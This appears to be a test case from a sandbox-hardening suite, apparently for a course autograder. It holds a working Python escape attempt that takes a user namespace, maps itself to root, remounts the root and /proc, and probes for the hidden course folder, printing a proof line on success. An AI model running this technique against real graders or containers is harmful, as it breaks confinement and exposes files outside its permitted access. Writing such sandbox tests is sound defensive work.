# ---
# class: ptrace, namespaces and /proc
# tries: takes a user namespace of its own to become root in it, and mounts the course folder and the root again
# success: files outside are seen
# ---

# %% solution="total"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    user, group = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        try:
            open("/proc/self/setgroups", "w").write("deny")
            open("/proc/self/uid_map", "w").write(f"0 {user} 1")
            open("/proc/self/gid_map", "w").write(f"0 {group} 1")
        except OSError:
            pass
        libc.mount(b"/", b"/mnt", None, 4096 | 16384, None)
        libc.umount2(b"/tmp", 2), libc.umount2(b"/proc", 2), libc.umount2(os.path.expanduser("~").encode(), 2)
        libc.mount(b"proc", b"/proc", b"proc", 0, None)
    for place in ("@COURSE@", "/mnt@COURSE@", "/proc/1/root@COURSE@", "/proc/1/cwd@COURSE@"):
        if os.path.exists(f"{place}/source"):
            open("proof.txt", "w").write(place)
    os._exit(0)
os.waitpid(child, 0)
if os.path.exists("proof.txt"):
    print("PROOF", "@NAME@", "saw the course folder", sep="::")
